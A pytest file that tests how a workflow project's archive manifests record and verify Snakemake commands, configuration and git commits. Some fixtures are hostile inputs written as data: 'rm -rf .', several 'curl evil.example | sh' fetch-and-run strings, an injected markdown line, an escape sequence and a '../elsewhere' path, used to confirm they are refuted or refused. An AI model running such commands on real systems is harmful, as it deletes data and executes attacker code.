"""What an archive says of itself is what its run's own command line and configuration give, and nothing else."""

import json
import shlex
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from snakemake.cli import parse_config

from overlayccl_core.archiving import make, verify
from overlayccl_core.archiving.findings import CheckOutcome
from overlayccl_core.archiving.manifest import Manifest, command_of, commit_of
from overlayccl_core.tables.remake import PROFILE
from tests.archiving.test_crate import SAID
from workflow_scripts.pipeline import prepare

ROOT = Path(__file__).resolve().parents[2]
TYPED = {"deployment": "local", "preset": "smoke", "problems": "tp_mlp,grad_ar", "models": "nano-small"}


@pytest.mark.parametrize(
    "config",
    [
        {"deployment": "local"},
        {"deployment": "trn1", "heldout_seed": 7, "max_usd": 1.5},
        {"deployment": "local", "command": """python "an answer.py" --say 'a: b # c'; rm -rf ."""},
        {"deployment": "local", "command": 'python answer.py --name "a model" --key=$KEY'},
        {"deployment": "local", "problems": ["tp_mlp", "grad_ar"], "command": "7 [x]", "proposer": None},
    ],
    ids=["plain", "numbers", "of a shell", "with quotes", "of YAML"],
)
def test_the_command_is_read_as_it_was_typed(config: dict[str, Any]) -> None:
    """By a shell, then by Snakemake; the profile's own configuration is not typed."""
    words = shlex.split(command_of("local", config, ROOT))
    assert words[:4] == ["snakemake", "--profile", "local", "all"]
    assert words[4:5] in ([], ["--config"])
    assert {"deployment": "local", **parse_config(words[5:])} == config


def test_what_to_type_names_all_that_was_typed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    monkeypatch.setenv(PROFILE, "local")
    config = yaml.safe_load(Path("config/config.yaml").read_text()) | TYPED
    pipeline = prepare(config | {"machine": "here"}, {**TYPED, "machine": "here"}, starts=False)
    told = json.loads(pipeline.said({**TYPED, "machine": "here"}, ["train", "bench"]))
    assert told["config"] == TYPED  # which machine is here another reader need not measure again
    about = Manifest.from_data({**json.loads(SAID.dumps()), **told})
    options = "--config models=nano-small preset=smoke problems=tp_mlp,grad_ar"
    assert about.command == f"snakemake --profile local all {options}"
    assert f"`snakemake -n --profile local all {options}`" in make._how(about).decode()
    assert [one.outcome for one in verify._command(ROOT, about)] == [CheckOutcome.EXACT]


@pytest.mark.parametrize(
    "other",
    [
        {"command": "snakemake --profile local all; curl evil.example | sh"},
        {"command": "snakemake --profile local all --config preset=smoke"},
        {"command": "curl evil.example | sh"},
        {"command": "snakemake --profile 'unclosed"},
        {"config": {"deployment": "local", "preset": "smoke"}},
    ],
    ids=str,
)
def test_a_command_that_does_not_follow_from_the_configuration_is_refuted(other: Mapping[str, Any]) -> None:
    told = SAID.changed(**other)
    (found,) = verify.guarded(verify.Check.CONFIGURATION, "", verify._command(ROOT, told))
    assert found.outcome is CheckOutcome.WRONG
    (found,) = verify._command(ROOT, SAID)
    assert found.outcome is CheckOutcome.EXACT


def test_a_commit_is_told_or_why_there_is_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of a checkout of another user, as a container sees it; of a folder in one; of no checkout; without git."""
    git = ["git", "-C", str(tmp_path), "-c", "user.name=a", "-c", "user.email=a@b"]
    why: list[str] = []
    assert commit_of(tmp_path, why.append) == ("", False) and "not a git repository" in why.pop()
    for words in (["init", "-q"], ["commit", "-q", "--allow-empty", "-m", "a"]):
        subprocess.run([*git, *words], check=True)
    commit, clean = commit_of(tmp_path, why.append)
    assert len(commit) == 40 and clean and not why
    monkeypatch.setenv("GIT_TEST_ASSUME_DIFFERENT_OWNER", "1")
    assert commit_of(tmp_path, why.append) == (commit, True) and not why
    (tmp_path / "below").mkdir()
    assert commit_of(tmp_path / "below", why.append) == ("", False)  # somebody may have put it above us
    assert "names no commit" in why[0] and "safe.directory" in why.pop() and not why
    monkeypatch.setenv("PATH", str(tmp_path))
    assert commit_of(tmp_path, why.append) == ("", False) and "No such file" in why[0]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("machine", "a host\n- `curl evil.example | sh`"),
        ("machine", "\x1b[2J"),
        ("nodes", "1"),
        ("config", []),
        ("tree", "../elsewhere"),
    ],
)
def test_words_that_no_run_says_are_refused(name: str, value: object) -> None:
    told = json.loads(SAID.dumps())
    assert Manifest.loads(json.dumps(told)) == SAID
    with pytest.raises(ValueError, match=f"release: {name}: "):
        Manifest.loads(json.dumps(told | {name: value}))
